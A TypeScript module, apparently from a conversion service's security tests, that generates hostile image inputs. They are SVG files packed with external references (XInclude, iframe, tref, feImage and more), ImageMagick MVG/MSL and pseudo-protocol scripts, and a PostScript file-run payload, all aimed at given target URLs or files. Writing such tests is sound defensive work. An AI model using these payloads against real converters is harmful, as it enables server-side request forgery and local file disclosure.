import { gzipSync } from "node:zlib";
import type { FormatId } from "../../../../../functions/domain/formats/formats.ts";
import { type Attack, attack } from "../attack.ts";
import { eachOf, type Places } from "./targets.ts";

/** A drawing that refers to the targets in every way. */
export const drawingOf = (places: Places): string => {
  const each = eachOf(places);
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" width="200" height="200"><style>${each((place) => `@import url("${place}"); @font-face { font-family: f; src: url("${place}") }`)}</style>${each(
    (place) =>
      `<image href="${place}" width="200" height="200"/><image xlink:href="${place}" width="200" height="200"/><use href="${place}#a"/><text font-family="f"><tref xlink:href="${place}"/></text><script href="${place}"/><xi:include href="${place}" parse="text"/><rect width="200" height="200" fill="url(${place}#a)"/><rect width="200" height="200" style="fill:url('${place}#a') none;mask:url(${place}#b);cursor:url(${place})"/><filter id="f"><feImage href="${place}"/></filter><rect width="200" height="200" fill-opacity="0" filter="url(#f)"/><foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${place}"/></foreignObject>`,
  )}</svg>`.replaceAll(
    /<rect width="200" height="200" fill="url/g,
    '<rect width="200" height="200" fill-opacity="0" fill="url',
  );
};

export const sheetsOf = (places: Places): string => eachOf(places)((place) => `<?xml-stylesheet href="${place}"?>`);

const MAGICK: readonly FormatId[] = [
  "bmp",
  "psd",
  "tga",
  "pcx",
  "xpm",
  "xbm",
  "miff",
  "pict",
  "ico",
  "dng",
  "jxl",
  "jp2",
  "svg",
  "png",
  "gif",
  "heic",
];

export const drawings = (places: Places): readonly Attack[] => {
  const each = eachOf(places);
  const svg = drawingOf(places);
  const sheet = sheetsOf(places);
  const magick = [
    `push graphic-context\nviewbox 0 0 200 200\n${each((place) => `image over 0,0 0,0 '${place}'`)}\npop graphic-context\n`,
    `<?xml version="1.0"?><image>${each((place) => `<read filename="${place}"/><write filename="/tmp/written"/>`)}</image>`,
    each((place) => `text:${place}\ncaption:@${place}\n@${place}\nmsl:${place}\n`),
    `%!PS\n${each((place) => `(${place}) (r) file run`)}\n`,
  ];
  return [
    attack("svg", ["png", "pdf", "jpg", "tiff"], "all kinds of references", () => `${sheet}${svg}`),
    attack("svgz", ["png", "pdf"], "all kinds of references", () => gzipSync(svg)),
    ...MAGICK.flatMap((from) =>
      magick.map((bytes, index) =>
        attack(from, [from === "png" ? "jpg" : "png"], `as an ImageMagick script, ${index + 1}`, () => bytes),
      ),
    ),
  ];
};
